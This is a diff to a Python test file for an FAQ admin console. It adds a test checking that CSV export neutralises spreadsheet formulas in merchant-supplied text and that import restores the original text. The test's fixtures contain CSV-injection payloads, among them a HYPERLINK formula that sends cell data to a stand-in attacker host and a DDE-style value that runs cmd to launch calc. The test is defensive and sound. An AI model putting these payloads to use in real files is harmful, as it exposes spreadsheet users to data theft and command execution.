@@ -1,6 +1,8 @@
 """Admin console on each database: FAQ versions, diff and rollback, CSV import/export, unanswered questions and their
 clusters, guide validation, analytics, incident detection and notices, and the admin pages behind the login."""
 
+import csv
+import io
 import re
 import textwrap
 import time
@@ -187,6 +189,29 @@ def test_csv_round_trip_preserves_every_entry(adb):
     parsed = service.parse_csv("\ufeff" + text)  # as saved by a spreadsheet
     assert [p.model_dump() for p in parsed] == expected
     assert do(service.import_entries, entries=parsed) == {"created": 0, "updated": 0, "unchanged": 60}
+
+
+def test_csv_export_escapes_formulas_from_merchant_text_and_import_undoes_it(adb):
+    """Merchant text reaches the FAQ through the unanswered list; in the export no cell starts a formula."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    entry = FaqIn(
+        id="formula_entry",
+        category="@分类",
+        question="-开票失败怎么办？",
+        alternates=[formula, "+1+cmd /C calc!A0"],
+        keywords=["\t=1+1"],
+        answer="=1+1 先检查网络。",
+    )
+    do(service.import_entries, entries=[entry])
+    with session_scope() as db_session:
+        text = service.to_csv(service.get_all(db_session=db_session))
+    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == "formula_entry")
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    assert row[1:4] == ["'@分类", "'-开票失败怎么办？", f"'{formula}|+1+cmd /C calc!A0"]
+    assert row[5] == "'=1+1 先检查网络。"
+    parsed = next(p for p in service.parse_csv("\ufeff" + text) if p.id == "formula_entry")
+    assert parsed.model_dump() == FaqIn.model_validate(entry.model_dump()).model_dump()
+    assert do(service.import_entries, entries=service.parse_csv(text))["unchanged"] == 61
 
 
 def test_csv_import_reads_lists_and_flags_and_reports_bad_rows(adb):
